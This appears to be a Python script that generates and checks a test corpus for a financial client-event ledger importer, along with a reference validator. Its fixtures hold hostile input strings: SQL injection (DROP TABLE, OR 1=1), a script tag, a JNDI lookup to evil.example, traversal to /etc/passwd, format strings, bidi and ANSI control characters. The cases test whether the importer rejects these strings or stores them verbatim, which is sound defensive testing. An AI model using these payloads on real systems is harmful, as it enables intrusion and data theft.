# --- injection strings in fields that refuse them -----------------------------------------

INJ = "x'); DROP TABLE events;--"
n = 75
case(n, "injection-segment",
     [c101_visit(n), Bad(reg(k(n, "bad"), "C275", "2026-03-02T10:00:00Z", "Ma Lin", INJ, "ordinary", "SH-Lujiazui", CRM))],
     ["line {n}, field data.segment:"], "an SQL-looking segment is not one of the three segments")

n = 76
case(n, "injection-channel",
     [c100_contact(n), Bad(ev(k(n, "bad"), "InteractionLogged", "C101", "2026-03-04T10:00:00Z", {"channel": INJ, "kind": "inquiry"}, CRM))],
     ["line {n}, field data.channel:"], "an SQL-looking channel")

n = 77
c, r = new_client(n)
case(n, "injection-risk-level",
     [r, Bad(ev(k(n, "bad"), "RiskAssessed", c, "2026-03-02T10:00:00Z", {"level": "C1' OR '1'='1", "score": 10}, CRM))],
     ["line {n}, field data.level:"], "an SQL-looking risk level")

n = 78
case(n, "injection-event-id",
     [c101_visit(n), Bad(ev(None, "InteractionLogged", "C100", "2026-03-04T10:00:00Z", {"channel": "app", "kind": "inquiry"}, OMS,
                            event_id="00000000-0000-4000-8000-000000000000'; DELETE FROM events;--"))],
     ["line {n}, field eventId:"], "an eventId with SQL appended is not a UUID")

n = 79
case(n, "injection-occurred-at",
     [c100_contact(n), Bad(ev(k(n, "bad"), "InteractionLogged", "C101", "2026-03-04T10:00:00Z'; DROP TABLE events;--", {"channel": "app", "kind": "inquiry"}, OMS))],
     ["line {n}, field occurredAt:"], "a timestamp with SQL appended")

n = 80
c, r = new_client(n)
case(n, "injection-data-key",
     [r, Bad(ev(k(n, "bad"), "FundsDeposited", c, "2026-03-02T10:00:00Z", {"amount": Raw("100.00"), INJ: 1}))],
     ["line {n}, field data." + INJ + ":"], "an SQL-looking key in data is an unknown field, named as given")

n = 81
case(n, "injection-metadata-key",
     [c101_visit(n), Bad(ev(k(n, "bad"), "InteractionLogged", "C100", "2026-03-04T10:00:00Z", {"channel": "app", "kind": "inquiry"},
                            {"actor": "oms", INJ: "x"}))],
     ["line {n}, field metadata." + INJ + ":"], "an SQL-looking key in metadata is an unknown field")

n = 82
case(n, "injection-expected-version",
     [c100_contact(n), Bad(ev(k(n, "bad"), "InteractionLogged", "C101", "2026-03-04T10:00:00Z", {"channel": "app", "kind": "inquiry"}, OMS,
                             extra={"expectedVersion": "1; DROP TABLE events"}))],
     ["line {n}, field expectedVersion:"], "expectedVersion as SQL-looking text, not a number")

n = 83
c, r = new_client(n)
case(n, "injection-schema-version",
     [r, Bad(ev(k(n, "bad"), "FundsDeposited", c, "2026-03-02T10:00:00Z", {"amount": Raw("100.00")}, extra={"schemaVersion": "1 OR 1=1"}))],
     ["line {n}, field schemaVersion:"], "schemaVersion as SQL-looking text")

n = 84
c, r = new_client(n)
case(n, "injection-product-id-newline",
     [r, deposit(n, c, "2026-03-02T10:00:00Z"),
      Bad(ev(k(n, "bad"), "ProductPurchased", c, "2026-03-03T10:00:00Z", {"productId": "MMF-01\n" + INJ, "amount": Raw("100.00")}, OMS))],
     ["line {n}, field data.productId:"], "an escaped newline in a productId is a control character (log-line injection)")

n = 85
c, r = new_client(n)
case(n, "injection-order-id-too-long",
     [r, deposit(n, c, "2026-03-02T10:00:00Z"),
      Bad(ev(k(n, "bad"), "TradeExecuted", c, "2026-03-03T10:00:00Z",
             {"orderId": "O-" + INJ * 3, "productId": "EQ-600519", "notional": Raw("100.00")}, OMS))],
     ["line {n}, field data.orderId:"], "orderId longer than 64 characters")

n = 86
case(n, "injection-client-id-unicode",
     [c101_visit(n), Bad(ev(k(n, "bad"), "InteractionLogged", "C100\u202e'--", "2026-03-04T10:00:00Z", {"channel": "app", "kind": "inquiry"}, OMS))],
     ["line {n}, field clientId:"], "a clientId with a right-to-left override and SQL: not an identifier")

n = 87
case(n, "injection-type-homoglyph",
     [c100_contact(n), Bad(ev(k(n, "bad"), "Interacti\u043enLogged", "C101", "2026-03-04T10:00:00Z", {"channel": "app", "kind": "inquiry"}, OMS))],
     ["line {n}, field type:"], "a Cyrillic o in the type name: an unknown type, not InteractionLogged")

n = 88
case(n, "injection-reason-control",
     [c101_visit(n), Bad(ev(k(n, "bad"), "PointsAdjusted", "C101", "2026-03-04T10:00:00Z",
                            {"points": 10, "reason": "goodwill\u001b[2J" + INJ, "approvedBy": "supervisor-7"}, {"actor": "crm"}))],
     ["line {n}, field data.reason:"], "an ANSI escape (ESC, a control character) in reason: terminal injection")

n = 89
case(n, "injection-metadata-actor-too-long",
     [c100_contact(n), Bad(ev(k(n, "bad"), "InteractionLogged", "C101", "2026-03-04T10:00:00Z", {"channel": "app", "kind": "inquiry"},
                             {"actor": INJ * 10}))],
     ["line {n}, field metadata.actor:"], "metadata.actor longer than 200 characters")

n = 90
c, r = new_client(n)
case(n, "injection-campaign-id-on-client-event",
     [r, Bad(ev(k(n, "bad"), "FundsDeposited", None, "2026-03-02T10:00:00Z", {"amount": Raw("100.00")}, omit=("clientId",),
                extra={"campaignId": INJ}))],
     ["line {n}, field clientId:"], "campaignId (SQL-looking) given on a client event instead of clientId")

# ---------------------------------------------------------------------------------------------
# Accepted: SQL-looking and non-ASCII text stored verbatim. Self-contained (new clients C3xx).

SQL1 = "Robert'); DROP TABLE events;--"
SQL2 = "1 OR 1=1"
SQL3 = "\" ; DELETE FROM events"
ACCEPTED = [
    reg("sql/C301/registered", "C301", "2026-04-01T09:00:00Z", SQL1, "retail", "ordinary", SQL2, {"actor": SQL3, "channel": "branch"}),
    reg("sql/C302/registered", "C302", "2026-04-01T09:10:00Z", "张伟", "high_net_worth", "professional", "上海陆家嘴营业部", {"actor": "柜台-王芳", "channel": "branch"}),
    reg("sql/C303/registered", "C303", "2026-04-01T09:20:00Z", SQL2, "institutional", "professional", SQL3, {"actor": "admin'--", "channel": "web"}),
    ev("sql/C301/risk", "RiskAssessed", "C301", "2026-04-02T10:00:00Z", {"level": "C3", "score": 50}, {"actor": SQL2}),
    ev("sql/C301/trade", "TradeExecuted", "C301", "2026-04-03T09:31:00Z",
       {"orderId": "O-1'; DROP TABLE events;--", "productId": "EQ-600519", "notional": money("20000.00")}, {"actor": SQL2, "channel": "app"}),
    ev("sql/C302/trade", "TradeExecuted", "C302", "2026-04-03T09:32:00Z",
       {"orderId": "订单-0001", "productId": "EQ-600519", "notional": money("10000.00")}, {"actor": "oms", "channel": "app"}),
    ev("sql/C301/redeem", "PointsRedeemed", "C301", "2026-04-04T12:00:00Z", {"points": 100, "reward": SQL1}, {"actor": SQL3}),
    ev("sql/C302/redeem", "PointsRedeemed", "C302", "2026-04-04T12:05:00Z", {"points": 50, "reward": "京东购物卡 50元"}, {"actor": "积分商城"}),
    ev("sql/C303/interaction", "InteractionLogged", "C303", "2026-04-05T15:00:00Z", {"channel": "wechat", "kind": "inquiry"}, {"actor": "客服 李娜 ☎", "channel": "wechat"}),
    ev("sql/C303/profile", "ClientProfileUpdated", "C303", "2026-04-06T10:00:00Z",
       {"name": "Zoë O'Brien 😀 \\ 张", "branch": "北京西单营业部"}, {"actor": "ops\\batch; --"}),
]

# ---------------------------------------------------------------------------------------------
# Accepted (issue 5): injection strings in every free-text field of a client event, stored
# verbatim; and a CRLF file. Self-contained (clients C401, C402, C410). Read by ReliabilityTests.

I1 = "Robert'); DROP TABLE events;--"
I2 = "\" OR \"\"=\""
I3 = "<script>alert('x')</script>"
I4 = "${jndi:ldap://evil.example/a}"
I5 = "../../../../etc/passwd"
I6 = "%s%s%n%x"
I7 = "\\'; DELETE FROM events WHERE '1'='1"
I8 = "{\"$ne\": null}"
I9 = "\u202egnp.exe \u2028 \ufeff a\u200bb"
I10 = "😀 张伟 Zoë"
I11 = "NULL"
I12 = "Robert\u00a0Tables -- /* */"
INJECTION_STRINGS = [I1, I2, I3, I4, I5, I6, I7, I8, I9, I10, I11, I12]
ALL_META = {"actor": I4, "channel": I5, "correlationId": I6, "causationId": I7}
ACCEPTED_INJECTION = [
    reg("inj/C401/registered", "C401", "2026-04-01T09:00:00Z", I1, "retail", "ordinary", I3, ALL_META),
    ev("inj/C401/risk", "RiskAssessed", "C401", "2026-04-01T10:00:00Z", {"level": "C3", "score": 50}, {"actor": I8}),
    ev("inj/C401/deposit", "FundsDeposited", "C401", "2026-04-02T09:00:00Z", {"amount": money("200000.00")}, {"correlationId": I9}),
    ev("inj/C401/trade", "TradeExecuted", "C401", "2026-04-02T10:00:00Z",
       {"orderId": I2, "productId": I5, "notional": money("50000.00")}, {"actor": I10, "channel": I12}),
    ev("inj/C401/purchase", "ProductPurchased", "C401", "2026-04-03T09:00:00Z", {"productId": I1, "amount": money("1000.00")}, {"actor": I11}),
    ev("inj/C401/redeem-product", "ProductRedeemed", "C401", "2026-04-04T09:00:00Z", {"productId": I1}, {"causationId": I2}),
    ev("inj/C401/redeem-points", "PointsRedeemed", "C401", "2026-04-05T09:00:00Z", {"points": 100, "reward": I8}, {"actor": I7}),
    ev("inj/C401/adjust-up", "PointsAdjusted", "C401", "2026-04-06T09:00:00Z", {"points": 25, "reason": I6, "approvedBy": I7}, {"actor": I3}),
    ev("inj/C401/adjust-down", "PointsAdjusted", "C401", "2026-04-07T09:00:00Z", {"points": -10, "reason": I3, "approvedBy": I4}, {"channel": I9}),
    ev("inj/C401/profile", "ClientProfileUpdated", "C401", "2026-04-08T09:00:00Z", {"name": I9, "branch": I10}, {"actor": I12}),
    ev("inj/C401/interaction", "InteractionLogged", "C401", "2026-04-09T09:00:00Z", {"channel": "wechat", "kind": "complaint"}, {"actor": I11, "channel": I2}),
    reg("inj/C402/registered", "C402", "2026-04-10T09:00:00Z", "null", "institutional", "professional", I11, {"actor": I1}),
    ev("inj/C402/offboarded", "ClientOffboarded", "C402", "2026-04-11T09:00:00Z", {"reason": I1 + " " + I2}, {"actor": I5}),
]
CRLF_LINES = [
    reg("crlf/C410/registered", "C410", "2026-04-01T09:00:00Z", "Qian Yu", "retail", "ordinary", "SZ-Nanshan", CRM),
    ev("crlf/C410/risk", "RiskAssessed", "C410", "2026-04-01T10:00:00Z", {"level": "C2", "score": 30}, CRM),
    "",
    ev("crlf/C410/deposit", "FundsDeposited", "C410", "2026-04-02T09:00:00Z", {"amount": money("30000.00")}, {"actor": "core-banking"}),
    # no eventId: the ledger derives one from the line's bytes, without its CR
    ev("crlf/C410/interaction", "InteractionLogged", "C410", "2026-04-03T09:00:00Z", {"channel": "phone", "kind": "inquiry"}, CRM,
       omit=("eventId",)),
    ev("crlf/C410/trade", "TradeExecuted", "C410", "2026-04-04T09:00:00Z",
       {"orderId": "O-410-1", "productId": "EQ-600519", "notional": money("12000.00")}, OMS),
]
HOSTILE_ACCEPTED = [
    {"file": "valid-injection-every-field.jsonl", "events": len(ACCEPTED_INJECTION), "crlf": False,
     "why": ("SQL, script, template, path, format-string, JSON-operator, bidi/zero-width and emoji strings in every "
             "free-text field of every client event type (name, branch, orderId, productId, reward, reason, approvedBy, "
             "and metadata actor/channel/correlationId/causationId): each is stored byte for byte")},
    {"file": "valid-crlf.jsonl", "events": sum(1 for l in CRLF_LINES if l != ""), "crlf": True,
     "why": ("CRLF line endings and a blank CRLF line are valid JSON Lines; a line without eventId gets the same "
             "derived id as the same line with an LF ending")},
]

# ---------------------------------------------------------------------------------------------
# Writing


def write_lines(path, lines, crlf=False):
    end = b"\r\n" if crlf else b"\n"
    data = b"".join(render(l) + end for l in lines)
    with open(path, "wb") as f:
        f.write(data)
    return data


def build():
    os.makedirs(OUT, exist_ok=True)
    for name in os.listdir(OUT):
        if re.match(r"^\d\d-.*\.(jsonl|bin)$", name) or name in (
                "cases.json", "accepted.json", "base.jsonl", "valid-sql-strings.jsonl", "hostile-accepted.json",
                "valid-injection-every-field.jsonl", "valid-crlf.jsonl"):
            os.remove(os.path.join(OUT, name))
    write_lines(os.path.join(OUT, "base.jsonl"), BASE)
    write_lines(os.path.join(OUT, "valid-sql-strings.jsonl"), ACCEPTED)
    write_lines(os.path.join(OUT, "valid-injection-every-field.jsonl"), ACCEPTED_INJECTION)
    write_lines(os.path.join(OUT, "valid-crlf.jsonl"), CRLF_LINES, crlf=True)
    with open(os.path.join(OUT, "hostile-accepted.json"), "w", encoding="utf-8") as f:
        json.dump(HOSTILE_ACCEPTED, f, ensure_ascii=False, indent=2)
        f.write("\n")
    manifest = []
    for c in CASES:
        lines = c["lines"]
        bad_at = [i + 1 for i, l in enumerate(lines) if isinstance(l, Bad)]
        assert len(bad_at) <= 1, c["name"]
        plain = [l.line if isinstance(l, Bad) else l for l in lines]
        path = os.path.join(OUT, c["name"])
        if not plain:
            open(path, "wb").close()
        else:
            write_lines(path, plain, crlf=c["crlf"])
        contains = [s.replace("{n}", str(bad_at[0])) if bad_at else s for s in c["contains"]]
        manifest.append({"file": c["name"], "exit": c["exit"], "contains": contains, "why": c["why"]})
        if c["nn"] == 41:
            manifest.append(LONG_LINE_CASE)
    with open(os.path.join(OUT, "cases.json"), "w", encoding="utf-8") as f:
        json.dump(manifest, f, ensure_ascii=False, indent=2)
        f.write("\n")
    accepted = [{"file": "valid-sql-strings.jsonl", "events": len(ACCEPTED),
                 "why": ("self-contained (clients C301-C303, runs with or without base.jsonl); SQL-looking and non-ASCII "
                         "text in name, branch, orderId, reward and metadata.actor must be stored verbatim. 'events' counts "
                         "the file's lines (facts); the two earning trades also make the ledger append 2 PointsAwarded decisions")}]
    with open(os.path.join(OUT, "accepted.json"), "w", encoding="utf-8") as f:
        json.dump(accepted, f, ensure_ascii=False, indent=2)
        f.write("\n")
    return manifest


# ---------------------------------------------------------------------------------------------
# Reference validator (a model of the rules, used only to check the corpus)

UUID_RE = re.compile(r"^[0-9a-fA-F]{8}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{12}$")
TS_RE = re.compile(r"^(\d{4})-(\d{2})-(\d{2})(?:[Tt](\d{2}):(\d{2})(?::(\d{2})(?:[.,]\d{1,9})?)?(?:[Zz]|[+-]\d{2}:?\d{2}))?$")
DECISIONS = {"PointsAwarded", "PointsExpired", "TierChanged"}
TOP_KEYS = {"eventId", "type", "clientId", "campaignId", "occurredAt", "schemaVersion", "expectedVersion", "data", "metadata"}
META_KEYS = {"actor", "channel", "correlationId", "causationId"}
E = lambda *v: ("enum", set(v))
SCHEMAS = {  # field: (kind, required)
    "ClientRegistered": {"name": ("str", True), "segment": (E("retail", "high_net_worth", "institutional"), True),
                         "investorType": (E("ordinary", "professional"), True), "branch": ("str", True)},
    "ClientProfileUpdated": {"name": ("str", False), "segment": (E("retail", "high_net_worth", "institutional"), False),
                             "investorType": (E("ordinary", "professional"), False), "branch": ("str", False)},
    "RiskAssessed": {"level": (E("C1", "C2", "C3", "C4", "C5"), True), "score": ("score", True), "lowestCategory": ("bool", False)},
    "FundsDeposited": {"amount": ("money", True)},
    "FundsWithdrawn": {"amount": ("money", True)},
    "TradeExecuted": {"orderId": ("str", True), "productId": ("str", True), "notional": ("money", True)},
    "ProductPurchased": {"productId": ("str", True), "amount": ("money", True)},
    "ProductRedeemed": {"productId": ("str", True)},
    "InteractionLogged": {"channel": (E("branch", "phone", "app", "web", "email", "wechat", "advisor"), True),
                          "kind": (E("inquiry", "visit", "education", "feedback", "complaint"), True)},
    "SurveyAnswered": {"nps": ("nps", True)},
    "PointsRedeemed": {"points": ("posint", True), "reward": ("str", True)},
    "PointsAdjusted": {"points": ("nonzeroint", True), "reason": ("str", True), "approvedBy": ("str", True)},
    "ClientOffboarded": {"reason": ("str", True)},
}


class Reject(Exception):
    def __init__(self, msg, exit_code=65):
        super().__init__(msg)
        self.msg, self.exit = msg, exit_code


def valid_ts(s):
    m = TS_RE.match(s)
    if not m:
        return False
    y, mo, d = int(m[1]), int(m[2]), int(m[3])
    if not (1900 <= y <= 9999 and 1 <= mo <= 12):
        return False
    dim = [31, 29 if (y % 4 == 0 and (y % 100 or y % 400 == 0)) else 28, 31, 30, 31, 30, 31, 31, 30, 31, 30, 31][mo - 1]
    if not 1 <= d <= dim:
        return False
    if m[4] is not None and (int(m[4]) > 23 or int(m[5]) > 59 or int(m[6] or 0) > 59):
        return False
    return True


def is_int(v):
    return isinstance(v, int) and not isinstance(v, bool)


def is_num(v):
    return isinstance(v, (int, Decimal)) and not isinstance(v, bool)


# Longest text of each free-text field, in Unicode scalars (metadata values: 200).
MAX_TEXT = {"name": 200, "branch": 100, "orderId": 64, "productId": 64, "reward": 200, "reason": 200, "approvedBy": 100}
MAX_POINTS = 10 ** 12


def valid_text(v, limit):
    """Non-empty, at most `limit` scalars, no control characters (U+0000–U+001F, U+007F)."""
    return isinstance(v, str) and v != "" and len(v) <= limit and not any(ord(ch) < 0x20 or ord(ch) == 0x7F for ch in v)


def check_value(kind, v, field=None):
    if kind == "str":
        return valid_text(v, MAX_TEXT.get(field, 200))
    if kind == "bool":
        return isinstance(v, bool)
    if isinstance(kind, tuple):
        return isinstance(v, str) and v in kind[1]
    if kind == "money":
        if not is_num(v):
            return False
        d = Decimal(v)
        return d.is_finite() and d > 0 and d < Decimal("1e15") and d.as_tuple().exponent >= -2
    if kind == "score":
        return is_int(v) and 0 <= v <= 100
    if kind == "nps":
        return is_int(v) and 0 <= v <= 10
    if kind == "posint":
        return is_int(v) and 0 < v <= MAX_POINTS
    if kind == "nonzeroint":
        return is_int(v) and v != 0 and abs(v) <= MAX_POINTS
    raise AssertionError(kind)


class State:
    def __init__(self):
        self.clients = {}  # id -> {"offboarded", "points", "version"}
        self.ids = {}      # eventId -> canonical line

    def copy(self):
        s = State()
        s.clients = {k: dict(v) for k, v in self.clients.items()}
        s.ids = dict(self.ids)
        return s


def earn(type_, data):
    if type_ == "TradeExecuted":
        return min(int(Decimal(data["notional"]) // 100), 5000)
    if type_ == "ProductPurchased":
        return int(Decimal(data["amount"]) * 2 // 100)
    if type_ == "FundsDeposited":
        return int(Decimal(data["amount"]) // 1000)
    if type_ == "SurveyAnswered":
        return 50
    return 0


MAX_DEPTH = 64


def nesting_depth(text):
    """Deepest nesting of arrays and objects, ignoring brackets inside strings."""
    depth = deepest = 0
    in_string = escaped = False
    for ch in text:
        if in_string:
            if escaped:
                escaped = False
            elif ch == "\\":
                escaped = True
            elif ch == '"':
                in_string = False
        elif ch == '"':
            in_string = True
        elif ch in "[{":
            depth += 1
            deepest = max(deepest, depth)
        elif ch in "]}":
            depth -= 1
    return deepest


def strict_loads(text):
    def no_constant(c):
        raise ValueError(c)
    if nesting_depth(text) > MAX_DEPTH:
        raise ValueError("nested more than 64 deep")
    return json.loads(text, parse_float=Decimal, parse_constant=no_constant)


def import_bytes(raw, state):
    """Returns the new state or raises Reject. `state` is not modified."""
    st = state.copy()
    lines = raw.split(b"\n")
    if all(l.strip() == b"" for l in lines):
        raise Reject("input is empty")
    seen = set()
    for no, line in enumerate(lines, 1):
        if line.endswith(b"\r"):
            line = line[:-1]
        if len(line) > MAX_LINE:
            raise Reject(f"line {no}: longer than 1048576 bytes")
        if line.strip() == b"":
            continue
        try:
            text = line.decode("utf-8")
        except UnicodeDecodeError:
            raise Reject(f"line {no}: not valid UTF-8")
        try:
            obj = strict_loads(text)
        except ValueError:
            raise Reject(f"line {no}: malformed JSON")
        if not isinstance(obj, dict):
            raise Reject(f"line {no}: not a JSON object")

        def bad(field, problem):
            raise Reject(f"line {no}, field {field}: {problem}")

        for key in obj:
            if key not in TOP_KEYS:
                bad(key, "unknown field")
        eid = obj.get("eventId")
        if eid is not None:
            if not isinstance(eid, str) or not UUID_RE.match(eid):
                bad("eventId", "not a UUID")
            if eid in seen:
                bad("eventId", "duplicate eventId in this file")
            seen.add(eid)
        if "type" not in obj or not isinstance(obj["type"], str):
            bad("type", "missing")
        type_ = obj["type"]
        if type_ in DECISIONS:
            bad("type", f"{type_} is a decision made by the ledger; it cannot be imported")
        if type_ not in SCHEMAS:
            bad("type", f"unknown event type")
        if not isinstance(obj.get("clientId"), str):
            bad("clientId", "missing")
        if "occurredAt" not in obj:
            bad("occurredAt", "missing")
        if not isinstance(obj["occurredAt"], str) or not valid_ts(obj["occurredAt"]):
            bad("occurredAt", "not an ISO-8601 UTC timestamp")
        if "schemaVersion" in obj and not (is_int(obj["schemaVersion"]) and obj["schemaVersion"] == 1):
            bad("schemaVersion", "unsupported")
        if "expectedVersion" in obj and not (is_int(obj["expectedVersion"]) and obj["expectedVersion"] >= 0):
            bad("expectedVersion", "not a version")
        data = obj.get("data")
        if not isinstance(data, dict):
            bad("data", "missing or not an object")
        schema = SCHEMAS[type_]
        for key in data:
            if key not in schema:
                bad(f"data.{key}", "unknown field")
        for key, (kind, required) in schema.items():
            if key not in data:
                if required:
                    bad(f"data.{key}", "missing")
                continue
            if not check_value(kind, data[key], key):
                bad(f"data.{key}", "invalid")
        if type_ == "ClientProfileUpdated" and not data:
            bad("data", "nothing to update")
        meta = obj.get("metadata", {})
        if not isinstance(meta, dict):
            bad("metadata", "not an object")
        for key, v in meta.items():
            if key not in META_KEYS:
                bad(f"metadata.{key}", "unknown field")
            if not isinstance(v, str):
                bad(f"metadata.{key}", "not a string")
            if not valid_text(v, 200):
                bad(f"metadata.{key}", "empty, too long or holding control characters")
        # stored id: idempotent only when identical
        canon = json.dumps(obj, sort_keys=True, default=str)
        if eid is not None and eid in st.ids:
            if st.ids[eid] != canon:
                bad("eventId", "already stored with a different event")
            continue
        cid = obj["clientId"]
        client = st.clients.get(cid)
        if type_ == "ClientRegistered":
            if client is not None:
                bad("type", f"client {cid} is already registered")
        elif client is None:
            bad("clientId", f"client {cid} is not registered")
        elif client["offboarded"]:
            bad("clientId", f"client {cid} is offboarded")
        current = client["version"] if client else 0
        if "expectedVersion" in obj and obj["expectedVersion"] != current:
            raise Reject(f"line {no}, field expectedVersion: conflict, stream is at {current}", 75)
        if type_ == "ClientRegistered":
            client = st.clients[cid] = {"offboarded": False, "points": 0, "version": 0}
        if type_ == "PointsRedeemed" or (type_ == "PointsAdjusted" and data["points"] < 0):
            want = abs(data["points"])
            if want > client["points"]:
                bad("data.points", f"{want} exceeds the available balance of {client['points']}")
            client["points"] -= want
        elif type_ == "PointsAdjusted":
            client["points"] += data["points"]
        gained = earn(type_, data)
        client["points"] += gained
        client["version"] += 1 + (1 if gained else 0)
        if type_ == "ClientOffboarded":
            client["offboarded"] = True
        if eid is not None:
            st.ids[eid] = canon
    return st


def check(manifest):
    problems = []
    base_raw = open(os.path.join(OUT, "base.jsonl"), "rb").read()
    base = import_bytes(base_raw, State())
    assert base.clients["C100"]["points"] == 500 and base.clients["C101"]["points"] == 0, base.clients
    assert base.clients["C102"]["offboarded"]
    for line in base_raw.decode().splitlines():
        obj = json.loads(line)
        assert obj["eventId"] == obj["eventId"].lower() and UUID_RE.match(obj["eventId"])
    for entry in json.load(open(os.path.join(OUT, "hostile-accepted.json"))):
        raw = open(os.path.join(OUT, entry["file"]), "rb").read()
        lines = [l for l in raw.split(b"\n") if l.strip() != b""]
        assert len(lines) == entry["events"], entry["file"]
        assert (b"\r\n" in raw) == entry["crlf"], entry["file"]
        import_bytes(raw, State())
        import_bytes(raw, base)
    for entry in json.load(open(os.path.join(OUT, "accepted.json"))):
        raw = open(os.path.join(OUT, entry["file"]), "rb").read()
        assert raw.count(b"\n") == entry["events"]
        import_bytes(raw, State())
        import_bytes(raw, base)
    # Every eventId appears once across the corpus, except the two deliberate reuses.
    counts = {}
    files = (["base.jsonl", "valid-sql-strings.jsonl", "valid-injection-every-field.jsonl", "valid-crlf.jsonl"]
             + [e["file"] for e in manifest if "generate" not in e])
    for name in files:
        for m in re.finditer(rb'"eventId":"([^"]*)"', open(os.path.join(OUT, name), "rb").read()):
            counts.setdefault(m[1].decode(), []).append(name)
        for m in re.finditer(rb"'eventId':'([^']*)'", open(os.path.join(OUT, name), "rb").read()):
            counts.setdefault(m[1].decode(), []).append(name)
    reused = {k: v for k, v in counts.items() if len(v) > 1}
    expected_reuse = {BASE_TRADE_C100["eventId"]: ["base.jsonl", "35-event-id-reused-from-log.jsonl"],
                      uid(k(33, "deposit")): ["33-duplicate-event-id.jsonl"] * 2}
    if reused != expected_reuse:
        problems.append(f"unexpected eventId reuse: {reused}")
    for e in manifest:
        if "generate" in e:
            name = "C242"
            line = dump(reg(k(42, "long"), name, "2026-03-02T10:00:00Z", "x" * 1_200_000)).encode() + b"\n"
            raw = line
        else:
            raw = open(os.path.join(OUT, e["file"]), "rb").read()
        try:
            import_bytes(raw, base)
            problems.append(f"{e['file']}: accepted")
            continue
        except Reject as r:
            if r.exit != e["exit"] or not all(s in r.msg for s in e["contains"]):
                problems.append(f"{e['file']}: got exit {r.exit} '{r.msg}', want {e['exit']} {e['contains']}")
        # Every line but the bad one must be valid on its own terms: drop the bad line and import again.
        if e["file"].endswith(("empty.jsonl", "blank-lines.jsonl", "whitespace-crlf.jsonl")) or "generate" in e:
            continue
        m = re.match(r"line (\d+)", e["contains"][0])
        bad_no = int(m[1])
        lines = raw.split(b"\n")
        rest = b"\n".join(l for i, l in enumerate(lines, 1) if i != bad_no)
        try:
            import_bytes(rest, base)
        except Reject as r:
            problems.append(f"{e['file']}: other lines not valid: {r.msg}")
        if b"\r" in raw and "crlf" not in e["file"]:
            problems.append(f"{e['file']}: CR found")
    return problems


if __name__ == "__main__":
    manifest = build()
    problems = check(manifest)
    for p in problems:
        print("PROBLEM:", p)
    print(f"{len(manifest)} cases, {len(BASE)} base lines, {len(ACCEPTED)} accepted lines")
    sys.exit(1 if problems else 0)
